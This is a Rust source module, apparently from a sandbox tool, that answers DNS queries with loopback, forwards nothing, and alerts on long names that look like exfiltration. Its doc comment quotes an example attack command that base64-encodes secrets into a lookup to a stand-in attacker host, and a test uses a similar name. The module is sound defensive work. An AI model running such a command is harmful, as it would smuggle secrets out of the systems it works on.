//! Names inside the wall are answered by blastwall, never by a real
//! resolver (DESIGN.md §5).
//!
//! Every `A` question gets `127.0.0.1`, where the supervisor accepts on
//! ports 80 and 443 ([`crate::Proxy::serve_transparent`]): a program that
//! ignores `HTTP_PROXY` (Node's `fetch`, a Go binary built without proxy
//! support) still reaches the gate, which decides on the name it asked for
//! (the TLS SNI or the `Host` header). `AAAA` and every other type get an
//! empty answer, so clients fall back to IPv4. Nothing is forwarded: a
//! query can carry no data out (`dig $(base64 secrets).attacker.example`
//! is answered here and goes nowhere), and a name that looks like such an
//! attempt (a label over [`LONG_LABEL`] bytes, or a name over
//! [`LONG_NAME`]) raises an audit alert, at most one per
//! [`ALERT_INTERVAL`], with the count of those suppressed.
//!
//! The responder is a few dozen lines rather than a DNS library: it reads
//! one question, never follows compression, and writes one fixed answer;
//! anything else is a `FORMERR` or `NOTIMP`.

use std::sync::Arc;
use std::time::{Duration, Instant};

use blastwall_gate::Gate;
use serde_json::json;

use crate::error::ProxyError;

/// A label longer than this in a question raises an alert.
pub const LONG_LABEL: usize = 40;
/// A name longer than this in a question raises an alert.
pub const LONG_NAME: usize = 100;
/// At most one alert per this interval.
pub const ALERT_INTERVAL: Duration = Duration::from_secs(10);

const TYPE_A: u16 = 1;
const CLASS_IN: u16 = 1;
const RCODE_FORMERR: u8 = 1;
const RCODE_NOTIMP: u8 = 4;

/// A parsed question: the name (lower case, dotted) and its type and class.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Question {
    /// The name, e.g. `backboard.railway.app`.
    pub name: String,
    /// The query type.
    pub qtype: u16,
    /// The class.
    pub qclass: u16,
    /// Where the question ends in the packet.
    end: usize,
}

/// Reads the single question of a query packet.
pub fn parse_question(packet: &[u8]) -> Result<Question, u8> {
    let header = packet.get(..12).ok_or(RCODE_FORMERR)?;
    let flags = u16::from_be_bytes([header[2], header[3]]);
    if flags & 0x8000 != 0 {
        return Err(RCODE_FORMERR); // a response, not a query
    }
    if (flags >> 11) & 0xf != 0 {
        return Err(RCODE_NOTIMP); // only standard queries
    }
    if u16::from_be_bytes([header[4], header[5]]) != 1 {
        return Err(RCODE_FORMERR);
    }
    let mut i = 12;
    let mut name = String::new();
    loop {
        let len = usize::from(*packet.get(i).ok_or(RCODE_FORMERR)?);
        i += 1;
        if len == 0 {
            break;
        }
        if len > 63 {
            return Err(RCODE_FORMERR); // compression or a bad length
        }
        let label = packet.get(i..i + len).ok_or(RCODE_FORMERR)?;
        i += len;
        if !name.is_empty() {
            name.push('.');
        }
        for &b in label {
            name.push(char::from(b.to_ascii_lowercase()));
        }
        if name.len() > 253 {
            return Err(RCODE_FORMERR);
        }
    }
    let rest = packet.get(i..i + 4).ok_or(RCODE_FORMERR)?;
    Ok(Question {
        name,
        qtype: u16::from_be_bytes([rest[0], rest[1]]),
        qclass: u16::from_be_bytes([rest[2], rest[3]]),
        end: i + 4,
    })
}

/// The answer to `packet`: loopback for `A IN`, empty for the rest, an
/// error code for what is not a single standard query. `None` when the
/// packet is too short to answer at all.
pub fn answer(packet: &[u8]) -> Option<Vec<u8>> {
    let id = packet.get(..2)?;
    let rd = packet.get(2).map_or(0, |b| b & 0x01);
    let q = parse_question(packet);
    let rcode = q.as_ref().err().copied().unwrap_or(0);
    let mut out = Vec::with_capacity(64);
    out.extend_from_slice(id);
    // QR, AA, RD as asked; RA; the rcode.
    out.push(0x84 | rd);
    out.push(0x80 | rcode);
    let Ok(q) = q else {
        out.extend_from_slice(&[0, 0, 0, 0, 0, 0, 0, 0]);
        return Some(out);
    };
    let a = q.qtype == TYPE_A && q.qclass == CLASS_IN;
    out.extend_from_slice(&[0, 1, 0, u8::from(a), 0, 0, 0, 0]);
    out.extend_from_slice(packet.get(12..q.end)?);
    if a {
        // The name by pointer to the question, A, IN, TTL 1 s, 127.0.0.1.
        out.extend_from_slice(&[0xc0, 0x0c, 0, 1, 0, 1, 0, 0, 0, 1, 0, 4, 127, 0, 0, 1]);
    }
    Some(out)
}

/// Whether a name looks like data smuggled out through DNS.
pub fn suspicious(name: &str) -> bool {
    name.len() > LONG_NAME || name.split('.').any(|l| l.len() > LONG_LABEL)
}

pub(crate) async fn serve(socket: std::net::UdpSocket, gate: Arc<Gate>) -> Result<(), ProxyError> {
    socket.set_nonblocking(true).map_err(ProxyError::Listen)?;
    let socket = tokio::net::UdpSocket::from_std(socket).map_err(ProxyError::Listen)?;
    let mut buf = [0u8; 1500];
    let mut last_alert: Option<Instant> = None;
    let mut suppressed = 0u64;
    loop {
        let (n, peer) = match socket.recv_from(&mut buf).await {
            Ok(x) => x,
            Err(e) => {
                tracing::debug!("dns receive failed: {e}");
                continue;
            }
        };
        let packet = buf.get(..n).unwrap_or_default();
        if let Ok(q) = parse_question(packet)
            && suspicious(&q.name)
        {
            if last_alert.is_none_or(|t| t.elapsed() >= ALERT_INTERVAL) {
                let shown: String = q.name.chars().take(300).collect();
                let _ = gate.alert(json!({
                    "source": "dns",
                    "alert": "dns-exfiltration",
                    "rule": "dns-long-name",
                    "what": "a name lookup that looks like data sent out through DNS; it was answered inside the wall and went nowhere",
                    "name": shown,
                    "suppressed_since_last": suppressed,
                }));
                last_alert = Some(Instant::now());
                suppressed = 0;
            } else {
                suppressed += 1;
            }
        }
        if let Some(reply) = answer(packet) {
            let _ = socket.send_to(&reply, peer).await;
        }
    }
}

#[cfg(test)]
mod tests {
    #![allow(clippy::unwrap_used, reason = "tests")]

    use super::*;

    fn query(name: &str, qtype: u16) -> Vec<u8> {
        let mut p = vec![0x12, 0x34, 0x01, 0x00, 0, 1, 0, 0, 0, 0, 0, 0];
        for l in name.split('.') {
            p.push(u8::try_from(l.len()).unwrap());
            p.extend_from_slice(l.as_bytes());
        }
        p.push(0);
        p.extend_from_slice(&qtype.to_be_bytes());
        p.extend_from_slice(&1u16.to_be_bytes());
        p
    }

    #[test]
    fn an_a_question_is_answered_with_loopback() {
        let q = query("Backboard.Railway.app", 1);
        let r = answer(&q).unwrap();
        assert_eq!(&r[..2], &[0x12, 0x34]);
        assert_eq!(r[3] & 0x0f, 0, "NOERROR");
        assert_eq!(&r[6..8], &[0, 1], "one answer");
        assert_eq!(&r[r.len() - 4..], &[127, 0, 0, 1]);
        assert_eq!(parse_question(&q).unwrap().name, "backboard.railway.app");
    }

    #[test]
    fn other_types_get_no_records() {
        let r = answer(&query("example.com", 28)).unwrap();
        assert_eq!(&r[6..8], &[0, 0]);
        assert_eq!(r[3] & 0x0f, 0);
    }

    #[test]
    fn malformed_packets_get_errors_never_panics() {
        assert!(answer(&[1]).is_none());
        let mut q = query("a.b", 1);
        q[12] = 0xc0; // a compression pointer in the question
        assert_eq!(answer(&q).unwrap()[3] & 0x0f, RCODE_FORMERR);
        for len in 0..40 {
            let mut p = query("example.com", 1);
            p.truncate(len);
            let _ = answer(&p);
        }
        let mut x = 7u32;
        for _ in 0..2000 {
            let p: Vec<u8> = (0..(x % 64))
                .map(|_| {
                    x = x.wrapping_mul(1_103_515_245).wrapping_add(12345);
                    x.to_be_bytes()[1]
                })
                .collect();
            let _ = answer(&p);
        }
    }

    #[test]
    fn long_labels_look_like_exfiltration() {
        assert!(suspicious(&format!("{}.attacker.example", "a".repeat(60))));
        assert!(!suspicious("backboard.railway.app"));
    }
}
